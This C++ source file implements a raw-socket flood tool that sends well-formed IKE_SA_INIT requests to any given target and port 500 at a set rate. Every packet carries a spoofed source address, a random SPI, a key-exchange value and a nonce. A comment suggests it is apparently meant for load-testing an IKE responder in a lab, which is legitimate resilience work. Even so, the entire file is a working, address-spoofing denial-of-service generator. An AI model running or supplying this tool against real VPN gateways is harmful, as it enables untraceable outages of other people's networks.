// SPDX-License-Identifier: Apache-2.0
// flood_sender TARGET RATE: well-formed IKE_SA_INIT requests, each from an address, with an SPI, a nonce and a public
// value of its own, until SIGTERM. Needs CAP_NET_RAW. Ends with what it really sent: attempts, and how many a second.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kBatch = 64;
volatile std::sig_atomic_t ending = 0;

// SplitMix64: the same flood each time.
std::uint64_t next_word(std::uint64_t& state) {
  state += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

void put16(std::uint8_t* at, std::size_t v) {
  at[0] = static_cast<std::uint8_t>(v >> 8);
  at[1] = static_cast<std::uint8_t>(v);
}

void put(std::vector<std::uint8_t>& out, std::initializer_list<std::uint8_t> octets) { out.insert(out.end(), octets); }

struct Template {
  std::vector<std::uint8_t> bytes;  // IP, UDP, IKE
  std::size_t source, spi, ke, nonce;
};

Template make_template(in_addr target) {
  Template t;
  auto& b = t.bytes;
  put(b, {0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0, 0, 0, 0, 0});  // the kernel fills length, number and checksum
  t.source = 12;
  std::array<std::uint8_t, 4> to{};
  std::memcpy(to.data(), &target, 4);
  b.insert(b.end(), to.begin(), to.end());
  put(b, {1, 0xf4, 1, 0xf4, 0, 0, 0, 0});  // 500 to 500, no checksum
  const auto ike = b.size();
  t.spi = ike;
  b.resize(b.size() + 16);
  put(b, {33, 0x20, 34, 0x08, 0, 0, 0, 0, 0, 0, 0, 0});
  // SA: AES_GCM_16_256, PRF_HMAC_SHA2_256, Curve25519.
  put(b, {34, 0, 0, 40, 0, 0, 0, 36, 1, 1, 0, 3});
  put(b, {3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 1, 0, 3, 0, 0, 8, 2, 0, 0, 5, 0, 0, 0, 8, 4, 0, 0, 31});
  put(b, {40, 0, 0, 40, 0, 31, 0, 0});
  t.ke = b.size();
  b.resize(b.size() + 32);
  put(b, {0, 0, 0, 36});
  t.nonce = b.size();
  b.resize(b.size() + 32);
  put16(&b[ike + 26], b.size() - ike);
  put16(&b[24], b.size() - 20);
  put16(&b[2], b.size());
  return t;
}

void fill(std::vector<std::uint8_t>& bytes, const Template& t, std::uint64_t& random) {
  const auto word = next_word(random);
  // 100.64.0.0/10 (RFC 6598): nobody of the lab lives there.
  const auto source = htonl(0x64400000U | static_cast<std::uint32_t>(word & 0x3fffffU));
  std::memcpy(&bytes[t.source], &source, 4);
  const auto spi = next_word(random) | 1U;
  std::memcpy(&bytes[t.spi], &spi, 8);
  for (std::size_t i = 0; i < 32; i += 8) {
    const auto a = next_word(random);
    const auto b = next_word(random);
    std::memcpy(&bytes[t.ke + i], &a, 8);
    std::memcpy(&bytes[t.nonce + i], &b, 8);
  }
}

}  // namespace

int main(int argc, char** argv) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
    (void)std::fprintf(stderr, "flood_sender TARGET RATE\n");
    return 2;
  }
  const double rate = std::atof(argv[2]);
  (void)std::signal(SIGTERM, [](int) { ending = 1; });
  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  const int buffer = 8 << 20;
  if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer) != 0) {
    std::perror("flood_sender");
    return 1;
  }
  const auto t = make_template(to.sin_addr);
  std::vector<std::vector<std::uint8_t>> packets(kBatch, t.bytes);
  std::array<mmsghdr, kBatch> headers{};
  std::array<iovec, kBatch> pieces{};
  for (std::size_t i = 0; i < kBatch; ++i) {
    pieces[i] = {packets[i].data(), packets[i].size()};
    headers[i].msg_hdr = {};
    headers[i].msg_hdr.msg_name = &to;
    headers[i].msg_hdr.msg_namelen = sizeof to;
    headers[i].msg_hdr.msg_iov = &pieces[i];
    headers[i].msg_hdr.msg_iovlen = 1;
  }
  std::uint64_t random = 1;
  std::uint64_t sent = 0;
  const auto started = Clock::now();
  const auto passed = [&] { return std::chrono::duration<double>(Clock::now() - started).count(); };
  while (ending == 0) {
    if (static_cast<double>(sent) > passed() * rate) {
      std::this_thread::sleep_for(std::chrono::microseconds(500));
      continue;
    }
    for (auto& packet : packets) fill(packet, t, random);
    const int n = sendmmsg(fd, headers.data(), kBatch, 0);
    if (n > 0) sent += static_cast<std::uint64_t>(n);
  }
  const double took = passed();
  (void)std::printf("%llu %.0f\n", static_cast<unsigned long long>(sent), static_cast<double>(sent) / took);
  return 0;
}
